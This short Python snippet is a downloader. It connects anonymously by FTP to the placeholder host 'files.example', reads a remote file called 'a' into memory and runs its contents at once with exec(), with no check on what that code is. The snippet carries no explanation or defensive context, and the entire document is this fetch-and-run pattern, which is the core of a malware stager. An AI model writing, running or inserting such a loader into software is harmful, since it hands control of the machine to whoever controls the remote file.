import ftplib
import io

kept = io.BytesIO()
server = ftplib.FTP("files.example")
server.login()
server.retrbinary("RETR a", kept.write)
exec(kept.getvalue())
